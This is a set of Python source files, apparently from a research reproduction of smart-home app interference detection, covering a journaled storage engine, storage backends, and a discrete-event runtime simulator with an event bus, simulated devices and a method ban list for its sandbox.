"""Per-commit delta records and their replay (DESIGN.md §14).

The journal is the delta half of the storage engine: instead of
rewriting a home's shard on every keep/delete decision, the store
appends one compact JSON record per commit and replays the journal
over the base snapshot at load time.  Record shape (one JSON object
per line)::

    {"seq": N, "base": G, "op": "commit",
     "app": ..., "environment": ..., "fingerprint": ...,
     "ruleset": [...], "signatures": [...],
     "cache_add": {"situation": [[ids, result], ...], ...},
     "cache_drop": {"situation": [ids, ...], ...},
     "frontend": {...}}

    {"seq": N, "base": G, "op": "remove", "app": ..., "frontend": {...}}

    {"seq": N, "base": G, "op": "frontend", "frontend": {...}}

(the ``frontend`` op replaces only the opaque frontend blob — the
O(delta) persistence path for frontend-side state that changes without
any detection change, e.g. the runtime monitor's observation ledger,
DESIGN.md §16).

``base`` pins the meta generation the record extends: records from
before a compaction (whose meta bumped the generation) are inert, so
an interrupted compaction — new shards and meta on disk, journal not
yet deleted — replays to exactly the compacted state.  ``seq`` is a
dense counter per base; replay applies the longest consistent prefix
(strictly sequential seq, parseable JSON, applicable shape) and stops
at the first torn or corrupt record — the documented crash-recovery
semantics: a truncated tail degrades to the state as of the last
acknowledged commit, never to a crash and never to stale results.

Replay is *exactly* equivalent to the eager full-rewrite path: commit
records pop-and-reappend the app in the directory and its shard
(mirroring how :meth:`DetectionPipeline.commit` moves a re-committed
app to the end of the installed order), cache deltas drop in place and
append at the end (mirroring dict delete + reinsert in the engine's
solve caches), and cache entries route to the shard of their first
app, exactly like :meth:`DetectionStore.save`.  That equivalence is
what makes compaction a pure fold: the compacted store parses to the
same snapshot the base + journal parsed to, byte for byte.
"""

from __future__ import annotations

CACHE_KINDS = ("situation", "condition", "effect")


def empty_caches() -> dict[str, list]:
    return {kind: [] for kind in CACHE_KINDS}


def empty_shard(environment: str) -> dict:
    return {
        "environment": environment,
        "apps": {},
        "caches": empty_caches(),
    }


def commit_record(
    seq: int,
    base: int,
    app: str,
    environment: str,
    fingerprint: str,
    ruleset: list,
    signatures: list,
    cache_add: dict[str, list],
    cache_drop: dict[str, list],
    frontend: dict,
) -> dict:
    return {
        "seq": seq,
        "base": base,
        "op": "commit",
        "app": app,
        "environment": environment,
        "fingerprint": fingerprint,
        "ruleset": ruleset,
        "signatures": signatures,
        "cache_add": cache_add,
        "cache_drop": cache_drop,
        "frontend": frontend,
    }


def remove_record(seq: int, base: int, app: str, frontend: dict) -> dict:
    return {
        "seq": seq,
        "base": base,
        "op": "remove",
        "app": app,
        "frontend": frontend,
    }


def frontend_record(seq: int, base: int, frontend: dict) -> dict:
    return {
        "seq": seq,
        "base": base,
        "op": "frontend",
        "frontend": frontend,
    }


def _first_app(rule_ids: list) -> str | None:
    if not rule_ids or not isinstance(rule_ids[0], str):
        return None
    return rule_ids[0].rsplit("/", 1)[0]


def apply_record(
    record: dict,
    apps: dict,
    shards: dict,
    frontend_box: list,
    wanted: set[str] | None,
) -> None:
    """Fold one journal record into parsed snapshot structures.

    ``apps``/``shards`` are the store's app directory and loaded shard
    payloads, mutated in place; ``frontend_box`` is a one-slot list
    holding the current frontend blob; ``wanted`` is the optional
    environment filter of :meth:`DetectionStore.load` — shard edits for
    unloaded environments are skipped, directory and frontend updates
    always apply.  Raises on a malformed record; the caller treats that
    as the end of the consistent prefix."""
    op = record["op"]
    frontend = record.get("frontend")
    if isinstance(frontend, dict):
        frontend_box[0] = frontend

    if op == "frontend":
        # Frontend-only delta: nothing but the blob changes.  A record
        # without a blob is malformed (ends the consistent prefix).
        if not isinstance(frontend, dict):
            raise ValueError("frontend record without a frontend blob")
        return

    app = str(record["app"])

    if op == "remove":
        removed = apps.pop(app, None)
        prefix = f"{app}/"
        for environment in list(shards):
            shard = shards[environment]
            shard.get("apps", {}).pop(app, None)
            caches = shard.get("caches", {})
            for kind in CACHE_KINDS:
                entries = caches.get(kind)
                if entries:
                    caches[kind] = [
                        entry
                        for entry in entries
                        if not any(
                            isinstance(rule_id, str)
                            and rule_id.startswith(prefix)
                            for rule_id in entry[0]
                        )
                    ]
            # An environment with no installed apps has no shard in an
            # eager snapshot either (its caches route with their first
            # app, so they empty out with it) — GC it the same way.
            if not shard.get("apps"):
                del shards[environment]
        del removed
        return

    if op != "commit":
        raise ValueError(f"unknown journal op {op!r}")

    environment = str(record["environment"])
    fingerprint = record["fingerprint"]
    # Re-committing moves the app to the end of the installed order —
    # mirror DetectionPipeline.commit's pop + reinsert exactly, in the
    # directory and in the shards.
    apps.pop(app, None)
    apps[app] = {"environment": environment, "fingerprint": fingerprint}
    for shard in shards.values():
        shard.get("apps", {}).pop(app, None)
    if wanted is None or environment in wanted:
        shard = shards.get(environment)
        if shard is None:
            shard = shards[environment] = empty_shard(environment)
        shard.setdefault("apps", {})[app] = {
            "fingerprint": fingerprint,
            "ruleset": record["ruleset"],
            "signatures": record["signatures"],
        }

    drops = record.get("cache_drop", {})
    for kind in CACHE_KINDS:
        keys = {tuple(key) for key in drops.get(kind, [])}
        if not keys:
            continue
        for shard in shards.values():
            caches = shard.get("caches", {})
            entries = caches.get(kind)
            if entries:
                caches[kind] = [
                    entry
                    for entry in entries
                    if tuple(entry[0]) not in keys
                ]

    adds = record.get("cache_add", {})
    for kind in CACHE_KINDS:
        for entry in adds.get(kind, []):
            first = _first_app(entry[0])
            target = None if first is None else apps.get(first)
            if not isinstance(target, dict):
                continue
            target_env = target.get("environment", "")
            if wanted is not None and target_env not in wanted:
                continue
            shard = shards.get(target_env)
            if shard is None:
                shard = shards[target_env] = empty_shard(target_env)
            shard.setdefault("caches", empty_caches()).setdefault(
                kind, []
            ).append(entry)
