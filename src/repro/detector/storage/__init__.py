"""Pluggable storage engine for the detection store (DESIGN.md §14).

:class:`StoreBackend` is the durable document/journal protocol the
:class:`~repro.detector.store.DetectionStore` persists through;
:class:`DirectoryBackend` keeps the historical directory-of-JSON
layout (with fsync durability), :class:`SQLiteStoreBackend` packs a
whole fleet's stores into one shareable WAL-mode database file.
:func:`make_store_backend` resolves the user-facing ``backend=``
setting (``None``/``"dir"``, ``"sqlite"``, ``"sqlite:<path>"`` or a
backend instance) against a store path.
"""

from __future__ import annotations

from pathlib import Path

from repro.detector.storage.backend import DirectoryBackend, StoreBackend
from repro.detector.storage.sqlite import SQLiteStoreBackend

#: Database filename used when a SQLite backend is rooted inside a
#: store directory (``backend="sqlite"`` without an explicit file).
SQLITE_STORE_FILE = "store.sqlite"


def make_store_backend(
    spec: "str | StoreBackend | None", path: "str | Path"
) -> StoreBackend:
    """Resolve a ``backend=`` setting into a live backend for ``path``.

    * ``None`` / ``"dir"`` — :class:`DirectoryBackend` on the store
      directory (the historical layout, the default).
    * ``"sqlite"`` — :class:`SQLiteStoreBackend` on
      ``<path>/store.sqlite``.
    * ``"sqlite:<file>"`` — :class:`SQLiteStoreBackend` on that file
      (shareable across stores via namespaces).
    * a :class:`StoreBackend` instance — used as-is.
    """
    if isinstance(spec, StoreBackend):
        return spec
    if spec is None:
        return DirectoryBackend(path)
    if not isinstance(spec, str):
        raise ValueError(
            f"invalid store backend spec {spec!r}; valid specs: None or "
            "'dir' (directory of JSON files), 'sqlite', 'sqlite:<path>', "
            "or a StoreBackend instance"
        )
    name, _, arg = spec.strip().partition(":")
    if name.lower() == "dir":
        return DirectoryBackend(Path(arg) if arg else path)
    if name.lower() == "sqlite":
        return SQLiteStoreBackend(
            Path(arg) if arg else Path(path) / SQLITE_STORE_FILE
        )
    raise ValueError(
        f"invalid store backend spec {spec!r}; valid specs: None or "
        "'dir', 'sqlite', 'sqlite:<path>', or a StoreBackend instance"
    )


__all__ = [
    "DirectoryBackend",
    "SQLITE_STORE_FILE",
    "SQLiteStoreBackend",
    "StoreBackend",
    "make_store_backend",
]
