"""Pluggable storage backends for the detection store (DESIGN.md §14).

A :class:`StoreBackend` is a small durable document store: named JSON
*documents* (the store's ``meta.json`` and shard files) plus an
append-only *journal* of newline-delimited records (the per-commit
delta log).  :class:`~repro.detector.store.DetectionStore` speaks only
this protocol, so the on-disk representation is swappable:

* :class:`DirectoryBackend` — the historical directory-of-JSON layout
  (one file per document, ``journal.jsonl`` for the delta log), now
  with full fsync durability: an acknowledged write survives a crash.
* :class:`~repro.detector.storage.sqlite.SQLiteStoreBackend` — a
  WAL-mode SQLite key-value file that multiple fleet controllers can
  share, with per-home key namespaces so one database serves a whole
  store root.

Durability/consistency contract every backend must honour:

* ``write_doc`` is atomic (readers see the old or the new document,
  never a torn one) and durable before it returns;
* ``append_journal`` appends one record durably; a crash may truncate
  the *tail* of the journal but never corrupt acknowledged records;
* ``read_journal`` returns a **consistent prefix**: only complete
  records, in append order — a torn tail is silently dropped;
* read failures degrade (``None`` / empty), they never raise on the
  detection path — mirroring the corrupt-store behavior of
  :mod:`repro.constraints.solvecache`.
"""

from __future__ import annotations

import os
from pathlib import Path

from repro.testing.faults import fault_hook


class StoreBackend:
    """Protocol base class for detection-store storage backends."""

    def read_doc(self, key: str) -> str | None:
        """The document's text, or ``None`` when absent/unreadable."""
        raise NotImplementedError

    def write_doc(self, key: str, text: str) -> int:
        """Atomically, durably replace a document; returns the bytes
        written (0 when the backend is degraded and dropped the
        write)."""
        raise NotImplementedError

    def has_doc(self, key: str) -> bool:
        raise NotImplementedError

    def list_docs(self, prefix: str) -> list[str]:
        """Sorted document names starting with ``prefix``."""
        raise NotImplementedError

    def append_journal(self, key: str, line: str) -> int:
        """Durably append one record line to the named journal;
        returns the bytes appended (0 when degraded)."""
        raise NotImplementedError

    def read_journal(self, key: str) -> list[str]:
        """The journal's complete record lines, in append order (a
        torn/truncated tail is dropped; missing journal = empty)."""
        raise NotImplementedError

    def delete(self, key: str) -> None:
        """Remove a document or journal (missing = no-op)."""
        raise NotImplementedError

    def sweep(self) -> None:
        """Janitor hook: drop leftover temporaries from crashed writes
        (no-op for backends without temporaries)."""

    def flush(self) -> None:
        """Persist buffered state (no-op for unbuffered backends)."""

    def close(self) -> None:
        """Release storage handles; further reads degrade to misses."""


class DirectoryBackend(StoreBackend):
    """The directory-of-JSON layout: one file per document under the
    store path, ``journal.jsonl``-style files for journals.

    Document writes go through a temp file + ``os.replace`` with the
    file *and* the directory fsynced, so the rename — the commit point
    — is durable: a crash right after an acknowledged commit cannot
    roll the store back to the previous snapshot (the durability gap
    the pre-§14 ``_write_atomic`` had).  Filesystems that refuse
    directory fsyncs (some network mounts) degrade gracefully: the
    write is still atomic, just not crash-durable past the rename."""

    def __init__(self, path: str | Path) -> None:
        self.path = Path(path)

    def _fsync_dir(self) -> None:
        try:
            fd = os.open(self.path, os.O_RDONLY)
        except OSError:
            return
        try:
            os.fsync(fd)
        except OSError:
            pass
        finally:
            os.close(fd)

    def read_doc(self, key: str) -> str | None:
        try:
            return (self.path / key).read_text(encoding="utf-8")
        except OSError:
            return None

    def write_doc(self, key: str, text: str) -> int:
        self.path.mkdir(parents=True, exist_ok=True)
        data = text.encode("utf-8")
        tmp = self.path / f"{key}.tmp"
        with open(tmp, "wb") as handle:
            handle.write(data)
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(tmp, self.path / key)
        self._fsync_dir()
        return len(data)

    def has_doc(self, key: str) -> bool:
        return (self.path / key).is_file()

    def list_docs(self, prefix: str) -> list[str]:
        try:
            return sorted(
                entry.name
                for entry in self.path.iterdir()
                if entry.name.startswith(prefix)
                and not entry.name.endswith(".tmp")
            )
        except OSError:
            return []

    def append_journal(self, key: str, line: str) -> int:
        # Chaos-battery injection point: a planned fault here surfaces
        # as the OSError an interrupted append would raise (DESIGN.md
        # §15), matching the sqlite backend's "store.append" point.
        fault_hook("store.append")
        self.path.mkdir(parents=True, exist_ok=True)
        target = self.path / key
        fresh = not target.exists()
        data = line.encode("utf-8") + b"\n"
        with open(target, "ab") as handle:
            handle.write(data)
            handle.flush()
            os.fsync(handle.fileno())
        if fresh:
            # The journal file's directory entry must be durable too,
            # or a crash could lose the whole (acknowledged) journal.
            self._fsync_dir()
        return len(data)

    def read_journal(self, key: str) -> list[str]:
        try:
            data = (self.path / key).read_bytes()
        except OSError:
            return []
        lines: list[str] = []
        # Only newline-terminated records count: a crash mid-append
        # leaves a torn tail, which is exactly the part we drop.
        for raw in data.split(b"\n")[:-1]:
            try:
                lines.append(raw.decode("utf-8"))
            except UnicodeDecodeError:
                break  # consistent prefix: stop at the first torn record
        return lines

    def delete(self, key: str) -> None:
        try:
            (self.path / key).unlink(missing_ok=True)
        except OSError:
            pass

    def sweep(self) -> None:
        try:
            stale = list(self.path.glob("*.tmp"))
        except OSError:
            return
        for path in stale:
            try:
                path.unlink(missing_ok=True)
            except OSError:
                pass

    def __repr__(self) -> str:
        return f"DirectoryBackend({str(self.path)!r})"
