"""Virtual time."""

from __future__ import annotations


class VirtualClock:
    """Simulated wall clock, in seconds since the simulation epoch.

    Time only moves via :meth:`advance_to`/:meth:`advance`, driven by the
    scheduler — there is no real sleeping anywhere in the simulator, so
    hour-long scenarios run in milliseconds.
    """

    def __init__(self, start: float = 0.0) -> None:
        self._now = float(start)

    @property
    def now(self) -> float:
        return self._now

    def advance_to(self, timestamp: float) -> None:
        if timestamp < self._now:
            raise ValueError(
                f"time cannot move backwards: {timestamp} < {self._now}"
            )
        self._now = float(timestamp)

    def advance(self, seconds: float) -> None:
        self.advance_to(self._now + seconds)

    def time_of_day(self) -> float:
        """Seconds since local midnight (the sim epoch is midnight)."""
        return self._now % 86400.0
