"""Device events and the platform event bus."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable


@dataclass(frozen=True, slots=True)
class Event:
    """A state-change event as delivered to SmartApp handlers.

    ``subject`` is a device id, ``"location"`` or ``"app"``; ``name`` the
    attribute that changed.  ``is_state_change`` is False for repeated
    reports of an unchanged value (SmartThings delivers those only to
    subscribers that asked for them; we do not deliver them at all).
    """

    subject: str
    name: str
    value: object
    timestamp: float
    display_name: str = ""
    is_state_change: bool = True


@dataclass(slots=True)
class _Subscription:
    subject: str
    attribute: str
    value_filter: str | None
    callback: Callable[[Event], None]
    owner: str


class EventBus:
    """Dispatches events to subscribed app handlers.

    Mirrors the SmartThings cloud: the platform listens to all data
    reported by sensors and broadcasts related events to subscribers
    (paper §II-A).
    """

    def __init__(self) -> None:
        self._subscriptions: list[_Subscription] = []
        self.history: list[Event] = []

    def subscribe(
        self,
        subject: str,
        attribute: str,
        callback: Callable[[Event], None],
        owner: str,
        value_filter: str | None = None,
    ) -> None:
        self._subscriptions.append(
            _Subscription(subject, attribute, value_filter, callback, owner)
        )

    def unsubscribe_owner(self, owner: str) -> None:
        self._subscriptions = [
            sub for sub in self._subscriptions if sub.owner != owner
        ]

    def publish(self, event: Event) -> list[Callable[[Event], None]]:
        """Record the event and return the matching handlers (the home
        invokes them so commands can interleave deterministically)."""
        self.history.append(event)
        matched: list[Callable[[Event], None]] = []
        for sub in self._subscriptions:
            if sub.subject != event.subject or sub.attribute != event.name:
                continue
            if sub.value_filter is not None and str(event.value) != sub.value_filter:
                continue
            matched.append(sub.callback)
        return matched

    def subscriptions_of(self, owner: str) -> list[tuple[str, str]]:
        return [
            (sub.subject, sub.attribute)
            for sub in self._subscriptions
            if sub.owner == owner
        ]
