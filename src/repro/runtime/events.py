"""Device events and the platform event bus."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable


@dataclass(frozen=True, slots=True)
class Event:
    """A state-change event as delivered to SmartApp handlers.

    ``subject`` is a device id, ``"location"`` or ``"app"``; ``name`` the
    attribute that changed.  ``is_state_change`` is False for repeated
    reports of an unchanged value (SmartThings delivers those only to
    subscribers that asked for them; we do not deliver them at all).
    """

    subject: str
    name: str
    value: object
    timestamp: float
    display_name: str = ""
    is_state_change: bool = True


@dataclass(slots=True)
class _Subscription:
    subject: str
    attribute: str
    value_filter: str | None
    callback: Callable[[Event], None]
    owner: str


class EventBus:
    """Dispatches events to subscribed app handlers.

    Mirrors the SmartThings cloud: the platform listens to all data
    reported by sensors and broadcasts related events to subscribers
    (paper §II-A).

    Ordering contract: ``publish`` returns matching handlers in
    *subscription order* (oldest subscription first), and taps run in
    *registration order* — deterministic regardless of hash seed, since
    both live in plain lists.  ``publish`` iterates a snapshot of the
    subscription and tap lists, so ``unsubscribe_owner`` (or a new
    ``subscribe``) called from inside a handler or tap affects only
    *later* publishes: the in-flight event is still delivered to every
    subscriber matched at publish time.
    """

    def __init__(self) -> None:
        self._subscriptions: list[_Subscription] = []
        self._taps: list[tuple[str, Callable[[Event], None]]] = []
        self.history: list[Event] = []

    def subscribe(
        self,
        subject: str,
        attribute: str,
        callback: Callable[[Event], None],
        owner: str,
        value_filter: str | None = None,
    ) -> None:
        self._subscriptions.append(
            _Subscription(subject, attribute, value_filter, callback, owner)
        )

    def add_tap(self, callback: Callable[[Event], None], owner: str) -> None:
        """Register a wiretap receiving *every* published event.

        Taps are how passive observers (the runtime interference
        monitor, trace recorders) see the full stream without
        enumerating subjects.  They are invoked synchronously inside
        ``publish``, in registration order, *before* the matched
        handlers are returned to the home, and are removed by
        ``unsubscribe_owner`` like ordinary subscriptions.
        """
        self._taps.append((owner, callback))

    def unsubscribe_owner(self, owner: str) -> None:
        """Drop all of ``owner``'s subscriptions and taps.

        Safe to call from inside a handler or tap: the publish in
        flight iterates a snapshot, so the owner still receives the
        current event; subsequent publishes exclude it.
        """
        self._subscriptions = [
            sub for sub in self._subscriptions if sub.owner != owner
        ]
        self._taps = [tap for tap in self._taps if tap[0] != owner]

    def publish(self, event: Event) -> list[Callable[[Event], None]]:
        """Record the event and return the matching handlers (the home
        invokes them so commands can interleave deterministically)."""
        self.history.append(event)
        for _owner, tap in tuple(self._taps):
            tap(event)
        matched: list[Callable[[Event], None]] = []
        for sub in tuple(self._subscriptions):
            if sub.subject != event.subject or sub.attribute != event.name:
                continue
            if sub.value_filter is not None and str(event.value) != sub.value_filter:
                continue
            matched.append(sub.callback)
        return matched

    def subscriptions_of(self, owner: str) -> list[tuple[str, str]]:
        return [
            (sub.subject, sub.attribute)
            for sub in self._subscriptions
            if sub.owner == owner
        ]
