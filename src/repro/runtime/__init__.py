"""Discrete-event smart-home runtime simulator.

The paper verifies discovered threats on real SmartThings hardware and
the platform simulator (§VIII-A/§VIII-B); this package is our
substitute substrate: a virtual clock, an event bus, simulated devices,
a physical-environment model with channel dynamics, a scheduler for
``runIn``/``runEvery``-style jobs, and a sandboxed *concrete*
interpreter that executes the same Groovy-subset SmartApps the symbolic
executor analyses.

The headline use is reproducing the exploitation experiments: install
the five demo apps in one :class:`SmartHome`, drive sensor events, and
watch actuator races, chained triggering and condition disabling unfold.
"""

from repro.runtime.clock import VirtualClock
from repro.runtime.events import Event, EventBus
from repro.runtime.environment import Environment
from repro.runtime.scheduler import Scheduler
from repro.runtime.devices import SimDevice
from repro.runtime.sandbox import SandboxViolation
from repro.runtime.home import AppInstance, CommandRecord, SmartHome

__all__ = [
    "AppInstance",
    "CommandRecord",
    "Environment",
    "Event",
    "EventBus",
    "SandboxViolation",
    "Scheduler",
    "SimDevice",
    "SmartHome",
    "VirtualClock",
]
