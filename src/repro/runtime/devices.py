"""Simulated devices: state, commands, sensor sampling."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.capabilities.channels import channel_for_attribute
from repro.capabilities.devices import Device, device_type
from repro.capabilities.registry import CommandSpec, find_command


@dataclass(slots=True)
class SimDevice:
    """A device living in a :class:`repro.runtime.home.SmartHome`.

    ``on_change`` is invoked with (device, attribute, old, new) whenever
    an attribute changes so the home can publish events.
    """

    device: Device
    on_change: Callable[["SimDevice", str, object, object], None] | None = None
    command_log: list[tuple[float, str, tuple]] = field(default_factory=list)

    @property
    def id(self) -> str:
        return self.device.device_id

    @property
    def label(self) -> str:
        return self.device.label

    @property
    def type_name(self) -> str:
        return self.device.type_name

    def current_value(self, attribute: str) -> object:
        return self.device.current_value(attribute)

    def set_attribute(self, attribute: str, value: object) -> bool:
        """Set a state attribute; returns True when the value changed."""
        old = self.device.state.get(attribute)
        if old == value:
            return False
        self.device.state[attribute] = value
        if self.on_change is not None:
            self.on_change(self, attribute, old, value)
        return True

    def execute(self, command: str, params: tuple = (), now: float = 0.0) -> CommandSpec | None:
        """Apply a command to the device state; returns the spec used."""
        dtype = device_type(self.type_name)
        if command not in dtype.commands():
            raise ValueError(
                f"device {self.label!r} ({self.type_name}) does not support "
                f"command {command!r}"
            )
        self.command_log.append((now, command, params))
        spec = None
        for cap in dtype.capability_objects():
            if command in cap.commands:
                spec = cap.commands[command]
                break
        if spec is None:
            spec = find_command(command)
        if spec is not None:
            for attribute, value in spec.sets:
                if value is None and params:
                    value = params[0]
                if value is not None:
                    self.set_attribute(attribute, value)
        return spec

    def sample_channels(self, environment) -> list[tuple[str, float]]:
        """Update measurement attributes from the environment; returns
        the (attribute, value) pairs that changed."""
        changed: list[tuple[str, float]] = []
        for attribute in self.device.state:
            channel = channel_for_attribute(attribute)
            if channel is None:
                continue
            reading = round(environment.read(channel.name), 1)
            if self.device.state.get(attribute) != reading:
                old = self.device.state.get(attribute)
                self.device.state[attribute] = reading
                if self.on_change is not None:
                    self.on_change(self, attribute, old, reading)
                changed.append((attribute, reading))
        return changed
