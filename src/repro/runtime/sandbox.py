"""SmartApp sandbox restrictions.

SmartThings runs SmartApps inside an ``Executor`` that bans dynamic
features, and the code review additionally bans dynamic method execution
on GStrings (paper §VIII-D.2).  The concrete interpreter enforces the
same bans so corpus apps cannot accidentally rely on behaviour the
platform would reject.
"""

from __future__ import annotations


class SandboxViolation(Exception):
    """The app used a construct the SmartThings sandbox forbids."""


# Methods banned by the sandbox / code review.
BANNED_METHODS: frozenset[str] = frozenset(
    {
        "evaluate",          # dynamic Groovy evaluation
        "invokeMethod",      # reflective dispatch
        "getMetaClass",
        "setMetaClass",
        "methodMissing",
        "propertyMissing",
        "execute",           # shelling out
        "newInstance",
        "getClass",
        "forName",
        "sleep",             # blocks the 20-second execution budget
        "wait",
        "notify",
        "notifyAll",
    }
)

# The per-method execution budget SmartThings enforces (paper §IX cites
# the 20-second limit when discussing ContexIoT).
EXECUTION_BUDGET_SECONDS = 20.0


def check_method_allowed(name: str) -> None:
    if name in BANNED_METHODS:
        raise SandboxViolation(
            f"method {name!r} is banned by the SmartApp sandbox"
        )
