"""The simulated smart home: cloud, hub, devices and installed apps.

Event flow mirrors SmartThings (paper Fig. 2): device state changes
publish events; the bus matches subscriptions; handlers run and issue
commands; commands mutate device state and the environment, which feeds
back into sensor readings.  Commands buffered during one event dispatch
are applied in a seeded-random order, reproducing the actuator-race
nondeterminism the paper observed on real hardware (§III-A: on-only,
off-only, on-then-off, off-then-on).
"""

from __future__ import annotations

import random
from collections import deque
from dataclasses import dataclass, field
from typing import Any

from repro.capabilities.devices import Device, device_type, make_device_id
from repro.lang import ast_nodes as ast
from repro.lang.parser import parse
from repro.runtime.clock import VirtualClock
from repro.runtime.environment import Environment
from repro.runtime.events import Event, EventBus
from repro.runtime.interpreter import (
    DeviceGroupProxy,
    DeviceProxy,
    EventObject,
    Interpreter,
    InterpreterError,
)
from repro.runtime.scheduler import Scheduler
from repro.runtime.devices import SimDevice

_SCHEDULING_PERIODS = {
    "runEvery1Minute": 60,
    "runEvery5Minutes": 300,
    "runEvery10Minutes": 600,
    "runEvery15Minutes": 900,
    "runEvery30Minutes": 1800,
    "runEvery1Hour": 3600,
    "runEvery3Hours": 10800,
}

_WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday",
             "Saturday", "Sunday"]


@dataclass(frozen=True, slots=True)
class CommandRecord:
    """One command issued by an app to a device."""

    timestamp: float
    app_name: str
    device_label: str
    command: str
    params: tuple


@dataclass(frozen=True, slots=True)
class OutboundMessage:
    """A notification/HTTP message leaving the home."""

    timestamp: float
    app_name: str
    channel: str       # "sms" | "push" | "http"
    target: str
    body: str


@dataclass(slots=True)
class _DateObject:
    """Minimal `new Date()` stand-in."""

    epoch_seconds: float

    def weekday_name(self) -> str:
        return _WEEKDAYS[int(self.epoch_seconds // 86400) % 7]


class _StateObject:
    """Sentinel for `state` / `atomicState`."""


class _LocationObject:
    """Sentinel for `location`."""


class _LogObject:
    """Sentinel for `log`."""


class AppInstance:
    """One installed SmartApp: module + bindings + persistent state."""

    def __init__(
        self,
        home: "SmartHome",
        name: str,
        module: ast.Module,
        bindings: dict[str, object],
        settings: dict[str, object],
    ) -> None:
        self.home = home
        self.name = name
        self.module = module
        self.bindings = bindings          # input name -> device id | [ids]
        self.settings = settings          # input name -> concrete value
        self.state: dict[str, Any] = {}
        self.state_object = _StateObject()
        self.location_object = _LocationObject()
        self._log_object = _LogObject()
        self.interpreter = Interpreter(self)
        self.errors: list[str] = []

    # ------------------------------------------------------------------
    # Lifecycle

    def invoke(self, method_name: str, args: list[Any] | None = None) -> Any:
        from repro.runtime.sandbox import SandboxViolation

        try:
            return self.interpreter.call_method(method_name, args)
        except (InterpreterError, SandboxViolation) as exc:
            self.errors.append(f"{method_name}: {exc}")
            self.home.errors.append(f"{self.name}.{method_name}: {exc}")
            return None

    def handle_event(self, handler: str, event: Event) -> None:
        evt = EventObject(
            name=event.name,
            value=self._stringify(event.value),
            device_id=event.subject if event.subject not in ("location", "app") else None,
            display_name=event.display_name,
            timestamp=event.timestamp,
        )
        method = self.module.method(handler)
        if method is None:
            self.errors.append(f"missing handler {handler!r}")
            return
        self.invoke(handler, [evt] if method.params else [])

    @staticmethod
    def _stringify(value: object) -> str:
        if isinstance(value, float) and value.is_integer():
            return str(int(value))
        return str(value)

    # ------------------------------------------------------------------
    # Identifier / property resolution for the interpreter

    def resolve_identifier(self, name: str):
        if name in self.bindings:
            bound = self.bindings[name]
            if isinstance(bound, (list, tuple)):
                return DeviceGroupProxy(self, tuple(bound))
            return DeviceProxy(self, bound)
        if name in self.settings:
            return self.settings[name]
        if name in ("state", "atomicState"):
            return self.state_object
        if name == "location":
            return self.location_object
        if name == "log":
            return self._log_object
        if name == "app":
            return self
        if name in self.module.methods:
            return name
        return NotImplemented

    def construct(self, type_name: str):
        if type_name in ("Date", "java.util.Date"):
            return _DateObject(self.home.clock.now)
        raise InterpreterError(f"cannot construct {type_name!r} in sandbox")

    def property_on(self, receiver: Any, name: str) -> Any:
        if isinstance(receiver, EventObject):
            return self._event_property(receiver, name)
        if isinstance(receiver, DeviceProxy):
            return self._device_property(receiver, name)
        if isinstance(receiver, DeviceGroupProxy):
            values = [
                self._device_property(proxy, name) for proxy in receiver.proxies()
            ]
            unique = {str(v) for v in values}
            if len(unique) == 1:
                return values[0]
            return values
        if receiver is self.state_object:
            return self.state.get(name)
        if receiver is self.location_object:
            if name in ("mode", "currentMode"):
                return self.home.mode
            if name == "name":
                return self.home.name
            if name == "id":
                return self.home.location_id
            return None
        if isinstance(receiver, dict):
            return receiver.get(name)
        if receiver is None:
            return None
        raise InterpreterError(f"no property {name!r} on {type(receiver).__name__}")

    def _event_property(self, evt: EventObject, name: str) -> Any:
        if name in ("value", "stringValue"):
            return evt.value
        if name in ("doubleValue", "floatValue", "numericValue", "numberValue"):
            return float(evt.value)
        if name in ("integerValue", "longValue"):
            return int(float(evt.value))
        if name == "name":
            return evt.name
        if name == "displayName":
            return evt.display_name
        if name == "device" and evt.device_id is not None:
            return DeviceProxy(self, evt.device_id)
        if name == "deviceId":
            return evt.device_id
        if name in ("isStateChange", "physical", "isPhysical"):
            return evt.state_change
        if name in ("date", "dateValue"):
            return _DateObject(evt.timestamp)
        if name == "descriptionText":
            return f"{evt.display_name} {evt.name} is {evt.value}"
        if name == "data":
            return ""
        return None

    def _device_property(self, proxy: DeviceProxy, name: str) -> Any:
        device = self.home.device_by_id(proxy.device_id)
        if name.startswith("current") and len(name) > len("current"):
            attribute = name[len("current"):]
            attribute = attribute[0].lower() + attribute[1:]
            return device.current_value(attribute)
        if name.startswith("latest") and len(name) > len("latest"):
            attribute = name[len("latest"):]
            attribute = attribute[0].lower() + attribute[1:]
            return device.current_value(attribute)
        if name == "id":
            return device.id
        if name in ("displayName", "label"):
            return device.label
        if name == "name":
            return device.type_name
        raise InterpreterError(
            f"no property {name!r} on device {device.label!r}"
        )

    # ------------------------------------------------------------------
    # Calls

    def global_call(self, interp, name, positional, closures, named, env):
        home = self.home
        if name == "subscribe":
            return self._api_subscribe(positional)
        if name in ("unsubscribe",):
            home.bus.unsubscribe_owner(self.name)
            return None
        if name in ("unschedule",):
            home.scheduler.cancel_owner(self.name)
            return None
        if name == "runIn":
            delay = float(positional[0])
            method = self._method_name(positional[1])
            overwrite = bool(named.get("overwrite", True)) if named else True
            home.scheduler.run_in(
                delay, lambda: self.invoke(method), owner=self.name,
                name=method, overwrite=overwrite,
            )
            return None
        if name in _SCHEDULING_PERIODS:
            method = self._method_name(positional[0])
            home.scheduler.run_every(
                _SCHEDULING_PERIODS[name], lambda: self.invoke(method),
                owner=self.name, name=method,
            )
            return None
        if name in ("schedule", "runDaily"):
            time_of_day = self._time_of_day(positional[0])
            method = self._method_name(positional[1])
            home.scheduler.schedule_daily(
                time_of_day, lambda: self.invoke(method), owner=self.name,
                name=method,
            )
            return None
        if name == "runOnce":
            when = self._time_of_day(positional[0])
            method = self._method_name(positional[1])
            delay = max(0.0, when - home.clock.time_of_day())
            home.scheduler.run_in(
                delay, lambda: self.invoke(method), owner=self.name, name=method
            )
            return None
        if name in ("sendSms", "sendSmsMessage"):
            home.send_message(self.name, "sms", str(positional[0]),
                              str(positional[1]))
            return None
        if name in ("sendPush", "sendPushMessage", "sendNotification",
                    "sendNotificationEvent", "sendNotificationToContacts"):
            home.send_message(self.name, "push", "user", str(positional[0]))
            return None
        if name == "setLocationMode":
            home.set_mode(str(positional[0]))
            return None
        if name in ("httpGet", "httpPost", "httpPostJson", "httpPut",
                    "httpPutJson", "httpDelete", "httpHead"):
